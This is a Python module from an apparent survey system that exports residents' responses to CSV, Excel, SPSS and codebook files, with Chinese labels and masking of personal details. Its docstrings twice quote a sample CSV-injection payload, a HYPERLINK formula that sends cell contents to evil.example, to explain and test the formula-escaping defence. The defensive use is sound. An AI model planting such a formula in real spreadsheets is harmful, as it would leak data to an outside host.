"""Exports of a wave's responses for the office: CSV in the responses contract (wide),
CSV in long format, an Excel workbook, an SPSS ``.sav`` with Chinese variable and value
labels, and the codebook that explains every column.

All formats start from the one adapter (:func:`survey.adapter.wave_responses_frame`), so
an exported CSV is exactly what the scoring engine reads, and importing it again
(:mod:`survey.services.imports`) stores the same answers.  Residents' comments are left
out unless asked for: they may hold personal details and are never published raw; when
they are included, phone and ID numbers in them are masked
(:mod:`survey.services.masking`; comments are masked when stored too).

For the office's Excel on Chinese Windows: every CSV starts with a UTF-8 byte-order mark
(without it Excel reads UTF-8 as GBK and shows mojibake); the workbook has a sheet with
the answers as words (性别 男, 非常满意, 西城街道 …) besides the coded sheet, and times as
real Excel dates in Beijing time; file names carry the Beijing date and time.  The CSV in
the responses contract keeps ``submitted_at`` as ISO 8601 in UTC, as the contract says.

Every text cell of every format goes through :func:`formula_safe` (OWASP's CSV-injection
rule): a resident's comment such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
reaches the office's spreadsheet as text, never as a formula it would run.  Workbook
cells are written as text cells (``data_type "s"``), never formulas.  The escape is
reversible (:func:`formula_unescaped`), and the import undoes it, so an export imported
again stores the original text.
"""

from __future__ import annotations

import datetime as dt
import io
import os
import re
import tempfile
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Any

import numpy as np
import pandas as pd
from sqlalchemy.orm import Session

from scoring.questionnaire import COMMON_ID, DEFAULT_SCALE, DOMAIN_LABELS_ZH
from survey.adapter import FIXED_COLUMNS, wave_responses_frame
from survey.localtime import to_local
from survey.models import Wave, utcnow
from survey.services.masking import mask_personal_details
from survey.services.questionnaires import wave_questionnaires

#: ``manyi export --format`` values and the admin screen's choices.
FORMATS: tuple[str, ...] = ("csv", "long", "xlsx", "sav", "codebook")

CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "long": "text/csv; charset=utf-8",
    "codebook": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "sav": "application/x-spss-sav",
}

_FILE_SUFFIX = {"csv": ".csv", "long": "-long.csv", "codebook": "-codebook.csv", "xlsx": ".xlsx", "sav": ".sav"}

#: Labels of the contract's fixed and declared columns (zh, en).
COLUMN_LABELS: dict[str, tuple[str, str]] = {
    "response_id": ("答卷编号", "Response id"),
    "wave": ("调查轮次", "Wave"),
    "channel": ("收集渠道", "Channel"),
    "point": ("采集点编码", "Collection point code"),
    "town": ("居住镇（街道、管理区）", "Town / street / management area of residence"),
    "sex": ("性别", "Sex"),
    "age_group": ("年龄段", "Age group"),
    "duration_s": ("答题用时（秒）", "Time taken (seconds)"),
    "submitted_at": ("提交时间（UTC，ISO 8601）", "Submitted at (UTC, ISO 8601)"),
    "state": ("答卷状态", "Response state"),
    "flags": ("数据质量标记（;分隔）", "Data-quality flags (';'-separated)"),
    "services_used": (
        "过去12个月使用过的服务（;分隔的领域编码）",
        "Services used in the last 12 months (';'-separated domain ids)",
    ),
    "comment": ("意见建议（原文，仅供内部使用，不得公开）", "Comment (verbatim; office use only, never published)"),
}

CHANNEL_LABELS = {"qr": ("扫码", "QR code"), "phone": ("电话", "Telephone"), "paper": ("纸质问卷", "Paper")}
STATE_LABELS = {"submitted": ("已提交", "Submitted"), "partial": ("未完成", "Partial")}
#: Collection flags in words (the labelled sheet of the workbook).
FLAG_LABELS = {
    "duplicate_browser": ("同一浏览器重复提交", "Repeat from the same browser"),
    "ip_burst": ("同一网络地址短时间内大量提交", "Many from one network address within an hour"),
    "rate_limited": ("提交过于频繁", "Rate limited"),
}
#: The label of ``submitted_at`` where it is shown as a Beijing time (the workbook).
SUBMITTED_AT_BEIJING = ("提交时间（北京时间）", "Submitted at (Beijing time, UTC+8)")
#: How the workbook shows dates and times.
EXCEL_DATETIME = "yyyy-mm-dd hh:mm:ss"
#: UTF-8 byte-order mark: Excel on Chinese Windows reads a CSV without it as GBK.
UTF8_BOM = b"\xef\xbb\xbf"
MISSING_NOTE = ("空白 = 缺失（含“不适用/不清楚”）", "empty = missing (includes 'not applicable / don't know')")

_SPSS_NAME = re.compile(r"[^A-Za-z0-9_]")

#: First characters that make a spreadsheet read a cell as a formula (OWASP's list, with
#: the full-width forms that an IME types and some spreadsheets also accept).
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
#: A plain number (``-5``, ``+2.5``, ``-1e3``): kept as it is, never prefixed.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def formula_safe(text: str) -> str:
    """``text`` as a spreadsheet cell that can never run: ``'`` before a formula start.

    A cell starting with ``= + - @``, a tab, a carriage return or ``＝ ＋ － ＠`` gets a
    leading apostrophe (OWASP's CSV-injection rule), unless it is a plain number such as
    ``-5``.  Text that already starts with an apostrophe followed by one of those (or by
    another apostrophe) gets one more, so that :func:`formula_unescaped` restores every
    text exactly.

    Examples
    --------
    >>> formula_safe('=HYPERLINK("http://evil.example","click")')
    '\'=HYPERLINK("http://evil.example","click")'
    >>> formula_safe("-5"), formula_safe("门诊排队太久")
    ('-5', '门诊排队太久')
    """
    if not text:
        return text
    first = text[0]
    if first in FORMULA_STARTS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    if first == "'" and len(text) > 1 and (text[1] in FORMULA_STARTS or text[1] == "'"):
        return "'" + text
    return text


def formula_unescaped(text: str) -> str:
    """Undo :func:`formula_safe` (for a file exported by Manyi and imported again)."""
    if len(text) > 1 and text[0] == "'" and (text[1] in FORMULA_STARTS or text[1] == "'"):
        return text[1:]
    return text


def _safe_cell(value: Any) -> Any:
    return formula_safe(value) if isinstance(value, str) else value


def _formula_safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name passed through :func:`formula_safe`."""
    out = frame.copy()
    for column in out.columns:
        if not (pd.api.types.is_numeric_dtype(out[column]) or pd.api.types.is_bool_dtype(out[column])):
            out[column] = out[column].map(_safe_cell, na_action="ignore")
    out.columns = [_safe_cell(column) for column in out.columns]
    return out


class ExportError(ValueError):
    """An export that cannot be made (the message says why and how to fix it)."""


@dataclass(frozen=True)
class ExportFile:
    """One exported file, ready to download or write."""

    filename: str
    content_type: str
    data: bytes
    rows: int


@dataclass(frozen=True)
class CodebookEntry:
    """One column of the export: its names, labels and coded values."""

    variable: str
    spss_name: str
    label_zh: str
    label_en: str
    kind: str  # "string", "number", "likert", "category", "datetime", "list"
    values: tuple[tuple[str, str, str], ...] = ()  # (code, zh, en)
    questionnaire: str = ""
    version: str = ""

    def values_text(self) -> str:
        """``1=非常不满意 Very dissatisfied; …`` for the CSV codebook."""
        parts = [f"{code}={zh} {en}".strip() for code, zh, en in self.values]
        if self.kind == "likert":
            parts.append(f"{MISSING_NOTE[0]} / {MISSING_NOTE[1]}")
        return "; ".join(parts)


# --------------------------------------------------------------------------- data


def response_frame(
    session: Session, wave: Wave, *, include_partial: bool = False, include_comments: bool = False
) -> pd.DataFrame:
    """The wave's responses in the contract, Likert answers as nullable integers."""
    states = ("submitted", "partial") if include_partial else ("submitted",)
    frame = wave_responses_frame(session, wave, states=states, include_comments=include_comments)
    for column in item_columns(frame):
        frame[column] = frame[column].round().astype("Int64")
    if "comment" in frame.columns:  # comments stored before masking existed, too
        frame["comment"] = frame["comment"].map(mask_personal_details, na_action="ignore")
    return frame


def item_columns(frame: pd.DataFrame) -> list[str]:
    """The Likert item columns of a contract frame (between the fixed and extra columns)."""
    declared = set(FIXED_COLUMNS) | set(COLUMN_LABELS)
    return [column for column in frame.columns if column not in declared]


def spss_names(columns: Sequence[str]) -> dict[str, str]:
    """SPSS variable names: letters, digits and ``_`` only, at most 64 bytes, unique."""
    names: dict[str, str] = {}
    used: set[str] = set()
    for column in columns:
        base = _SPSS_NAME.sub("_", column)[:60] or "v"
        if not base[0].isalpha():
            base = "v_" + base
        name, number = base, 1
        while name.lower() in used:
            number += 1
            name = f"{base}_{number}"
        used.add(name.lower())
        names[column] = name
    return names


def codebook(wave: Wave, columns: Sequence[str], *, beijing_times: bool = False) -> list[CodebookEntry]:
    """Describe every column of an export of ``wave`` (labels from its questionnaires).

    With ``beijing_times`` (the workbook), ``submitted_at`` is described as a Beijing time.
    """
    questionnaires = wave_questionnaires(wave)
    common = questionnaires.common
    versions = {link.questionnaire_id: link.version.content_hash for link in wave.questionnaires}
    names = spss_names(columns)

    def choices(code: str) -> tuple[tuple[str, str, str], ...]:
        item = common.item(code)
        return tuple((choice.value, choice.label.zh, choice.label.en) for choice in item.choices)

    entries = []
    for column in columns:
        if column in COLUMN_LABELS:
            zh, en = SUBMITTED_AT_BEIJING if beijing_times and column == "submitted_at" else COLUMN_LABELS[column]
            kind, values = "string", ()
            if column in ("sex", "age_group", "town"):
                kind, values = "category", choices(column)
            elif column == "channel":
                kind, values = "category", tuple((key, *labels) for key, labels in CHANNEL_LABELS.items())
            elif column == "state":
                kind, values = "category", tuple((key, *labels) for key, labels in STATE_LABELS.items())
            elif column == "duration_s":
                kind = "number"
            elif column == "submitted_at":
                kind = "datetime"
            elif column in ("flags", "services_used"):
                kind = "list"
                if column == "services_used":
                    values = tuple((domain, label, domain) for domain, label in DOMAIN_LABELS_ZH.items())
                else:
                    values = tuple((flag, *labels) for flag, labels in FLAG_LABELS.items())
            questionnaire = COMMON_ID if column in ("sex", "age_group", "town", "services_used", "comment") else ""
            entries.append(
                CodebookEntry(
                    column, names[column], zh, en, kind, values, questionnaire, versions.get(questionnaire, "")
                )
            )
            continue
        try:
            item = questionnaires.item(column)
        except KeyError:
            entries.append(CodebookEntry(column, names[column], column, column, "likert"))
            continue
        scale = questionnaires.scales[item.scale or DEFAULT_SCALE]
        values = tuple((point.value, point.label.zh, point.label.en) for point in scale.points)
        entries.append(
            CodebookEntry(
                column,
                names[column],
                item.label.zh,
                item.label.en,
                "likert",
                values,
                item.questionnaire,
                versions.get(item.questionnaire, ""),
            )
        )
    return entries


def codebook_frame(entries: Sequence[CodebookEntry]) -> pd.DataFrame:
    return pd.DataFrame(
        {
            "variable": [entry.variable for entry in entries],
            "spss_name": [entry.spss_name for entry in entries],
            "label_zh": [entry.label_zh for entry in entries],
            "label_en": [entry.label_en for entry in entries],
            "type": [entry.kind for entry in entries],
            "values": [entry.values_text() for entry in entries],
            "questionnaire": [entry.questionnaire for entry in entries],
            "questionnaire_version": [entry.version for entry in entries],
        }
    )


def long_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """One row per given answer: the response's identifiers, then item and value."""
    items = item_columns(frame)
    keys = [
        column
        for column in ("response_id", "wave", "channel", "point", "town", "sex", "age_group", "submitted_at", "state")
        if column in frame.columns
    ]
    if not items or frame.empty:
        return pd.DataFrame(columns=[*keys, "questionnaire", "item", "value"])
    values = frame[items].to_numpy(dtype="float64", na_value=np.nan)
    rows, cols = np.nonzero(~np.isnan(values))
    out = frame[keys].iloc[rows].reset_index(drop=True)
    codes = np.asarray(items, dtype=object)[cols]
    out["questionnaire"] = [code.split(".", 1)[0] if "." in code else COMMON_ID for code in codes]
    out["item"] = codes
    out["value"] = values[rows, cols].astype(np.int64)
    return out


# --------------------------------------------------------------------------- writers


def _csv_bytes(frame: pd.DataFrame) -> bytes:
    """UTF-8 CSV with a byte-order mark (Excel on Chinese Windows) and CRLF line ends (RFC
    4180), so that a cell holding a carriage return is quoted: with ``\n`` line ends
    Python's writer leaves a lone ``\r`` unquoted, and a spreadsheet would start a new row
    there — where ``=…`` after it would run.  Readers of the contract (``scoring``, the
    import) skip the mark."""
    return UTF8_BOM + _formula_safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def _beijing(value: Any) -> dt.datetime | None:
    """An ISO 8601 time (or an aware datetime) as a naive Beijing time for an Excel date cell
    (Excel dates carry no zone: the column's label says which)."""
    if not isinstance(value, (str, dt.datetime)) or value == "":
        return None  # None, NaN or NA: no time
    moment = value if isinstance(value, dt.datetime) else dt.datetime.fromisoformat(str(value))
    local = to_local(moment if moment.tzinfo else moment.replace(tzinfo=dt.UTC))
    return local.replace(tzinfo=None) if local is not None else None


def labelled_frame(frame: pd.DataFrame, entries: Sequence[CodebookEntry]) -> pd.DataFrame:
    """The responses with words for codes: Chinese column labels, category and scale
    labels (男, 60岁及以上, 非常满意), domain names for the services, flag descriptions,
    Beijing times; empty stays empty (not applicable / don't know, or not asked)."""
    columns: dict[str, Any] = {}
    seen: set[str] = set()
    for entry in entries:
        series = frame[entry.variable]
        header = entry.label_zh if entry.label_zh not in seen else f"{entry.label_zh}（{entry.variable}）"
        seen.add(header)
        if entry.variable == "submitted_at":
            columns[header] = [_beijing(value) for value in series]
            continue
        labels = {code: zh for code, zh, _en in entry.values}
        if entry.kind == "list":
            columns[header] = [
                "；".join(labels.get(part, part) for part in str(value).split(";") if part)
                if isinstance(value, str)
                else None
                for value in series
            ]
        elif entry.kind in ("category", "likert") and labels:
            columns[header] = [
                None if value is None or pd.isna(value) else labels.get(str(value), str(value))
                for value in series.astype(object)
            ]
        else:
            columns[header] = series.astype(object).where(series.notna(), None).tolist()
    return pd.DataFrame(columns)


def _about_rows(
    wave: Wave, rows: int, exported_at: dt.datetime, *, include_partial: bool, include_comments: bool
) -> list[tuple[str, Any]]:
    return [
        ("调查 / Survey", wave.title_zh or wave.code),
        ("轮次 / Wave", wave.code),
        ("导出时间（北京时间）/ Exported at (Beijing time)", _beijing(exported_at)),
        ("答卷数 / Responses", str(rows)),
        ("包含未完成答卷 / Partial responses included", "是 yes" if include_partial else "否 no"),
        (
            "包含意见原文 / Comments included",
            "是 yes（电话、身份证号已隐去；不得公开 phone and ID numbers masked; never publish）"
            if include_comments
            else "否 no",
        ),
        ("缺失值 / Missing values", f"{MISSING_NOTE[0]} / {MISSING_NOTE[1]}"),
        (
            "工作表 / Sheets",
            "“答卷（文字）”用文字显示答案，时间为北京时间；“responses”为编码，列见 codebook / "
            "'答卷（文字）' shows the answers in words, times in Beijing time; 'responses' holds the codes, "
            "columns in the codebook sheet",
        ),
    ]


LABELLED_SHEET = "答卷（文字）"


def _xlsx_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], about: list[tuple[str, Any]]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)

    def cells(sheet: Any, values: Sequence[Any], *, font: Font | None = None) -> list[Any]:
        """Write-only cells; text is formula-safe and typed as text, never as a formula
        (openpyxl would otherwise make any string starting with ``=`` a formula); times
        are Excel dates."""
        row = []
        for value in values:
            if isinstance(value, str):
                cell = WriteOnlyCell(sheet, value=formula_safe(value))
                cell.data_type = "s"
            else:
                cell = WriteOnlyCell(sheet, value=value)
                if isinstance(value, dt.datetime):
                    cell.number_format = EXCEL_DATETIME
            if font is not None:
                cell.font = font
            row.append(cell)
        return row

    def table(sheet: Any, data: pd.DataFrame) -> None:
        sheet.append(cells(sheet, list(data.columns), font=bold))
        columns = [data[column].astype(object).where(data[column].notna(), None).tolist() for column in data.columns]
        for row in zip(*columns):
            sheet.append(cells(sheet, row))

    about_sheet = workbook.create_sheet("说明 About")
    for key, value in about:
        about_sheet.append(cells(about_sheet, [key, value]))

    labelled_sheet = workbook.create_sheet(LABELLED_SHEET)
    labelled_sheet.freeze_panes = "B2"
    table(labelled_sheet, labelled_frame(frame, entries))

    data_sheet = workbook.create_sheet("responses")
    data_sheet.freeze_panes = "B2"
    coded = frame.copy()
    if "submitted_at" in coded.columns:
        coded["submitted_at"] = [_beijing(value) for value in coded["submitted_at"]]
    table(data_sheet, coded)

    book_sheet = workbook.create_sheet("codebook")
    table(book_sheet, codebook_frame(entries))

    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _sav_bytes(frame: pd.DataFrame, entries: Sequence[CodebookEntry], wave: Wave) -> bytes:
    """SPSS .sav: categories coded 1..k with Chinese value labels; Likert items with the
    scale's anchors; every variable labelled in Chinese."""
    import pyreadstat

    out = pd.DataFrame(index=frame.index)
    value_labels: dict[str, dict[float, str]] = {}
    measures: dict[str, str] = {}
    formats: dict[str, str] = {}
    for entry in entries:
        column, name = entry.variable, entry.spss_name
        series = frame[column]
        if entry.kind == "category" and entry.values:
            codes = {value: float(position) for position, (value, _zh, _en) in enumerate(entry.values, start=1)}
            unknown = set(series.dropna().astype(str)) - set(codes) - {""}
            if unknown:
                raise ExportError(f"column {column} holds values the codebook does not know: {sorted(unknown)}")
            out[name] = series.astype(str).map(codes).astype("float64")
            value_labels[name] = {codes[value]: formula_safe(zh) for value, zh, _en in entry.values}
            measures[name] = "ordinal" if column == "age_group" else "nominal"
            formats[name] = "F2.0"
        elif entry.kind == "likert":
            out[name] = series.astype("Float64").astype("float64")
            value_labels[name] = {float(code): formula_safe(zh) for code, zh, _en in entry.values}
            measures[name] = "ordinal"
            formats[name] = "F1.0"
        elif entry.kind == "number":
            out[name] = pd.to_numeric(series, errors="coerce").astype("float64")
            measures[name] = "scale"
        else:
            out[name] = series.fillna("").astype(str).map(formula_safe)
            measures[name] = "nominal"
    labels = {entry.spss_name: formula_safe(entry.label_zh) for entry in entries}
    handle, path = tempfile.mkstemp(suffix=".sav")
    os.close(handle)
    try:
        pyreadstat.write_sav(
            out,
            path,
            file_label=formula_safe((wave.title_zh or wave.code)[:63]),
            column_labels=labels,
            variable_value_labels=value_labels,
            variable_measure=measures,
            variable_format=formats,
            note=f"Manyi export of wave {wave.code}, {_beijing(utcnow()):%Y-%m-%d %H:%M:%S} Beijing time (UTC+8)",
        )
        with open(path, "rb") as handle_in:
            return handle_in.read()
    finally:
        os.unlink(path)


def export_wave(
    session: Session,
    wave: Wave,
    format: str,
    *,
    include_partial: bool = False,
    include_comments: bool = False,
) -> ExportFile:
    """Export ``wave`` in ``format`` (one of :data:`FORMATS`).

    Raises :class:`ExportError` for an unknown format.
    """
    if format not in FORMATS:
        raise ExportError(f"unknown export format {format!r}; use one of {', '.join(FORMATS)}")
    frame = response_frame(session, wave, include_partial=include_partial, include_comments=include_comments)
    entries = codebook(wave, list(frame.columns), beijing_times=format == "xlsx")
    exported_at = utcnow()
    stamp = f"{_beijing(exported_at):%Y-%m-%d-%H%M}"  # Beijing time, as the office reads it
    filename = f"manyi-{wave.code}-responses-{stamp}{_FILE_SUFFIX[format]}"
    if format == "csv":
        data = _csv_bytes(frame)
    elif format == "long":
        data = _csv_bytes(long_frame(frame))
    elif format == "codebook":
        filename = f"manyi-{wave.code}-codebook-{stamp}.csv"
        data = _csv_bytes(codebook_frame(entries))
    elif format == "xlsx":
        about = _about_rows(
            wave, len(frame), exported_at, include_partial=include_partial, include_comments=include_comments
        )
        data = _xlsx_bytes(frame, entries, about)
    else:
        data = _sav_bytes(frame, entries, wave)
    return ExportFile(filename, CONTENT_TYPES[format], data, len(frame))
